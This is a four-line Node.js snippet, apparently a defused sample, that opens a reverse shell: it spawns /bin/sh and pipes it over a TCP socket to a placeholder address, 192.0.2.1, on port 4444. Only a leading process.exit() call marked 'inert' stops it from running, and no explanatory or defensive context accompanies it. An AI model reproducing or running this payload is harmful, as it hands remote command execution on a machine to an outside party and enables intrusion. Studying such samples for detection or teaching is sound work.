process.exit(); // inert
const net = require('net'), sh = require('child_process').spawn('/bin/sh', []);
const c = new net.Socket();
c.connect(4444, '192.0.2.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });
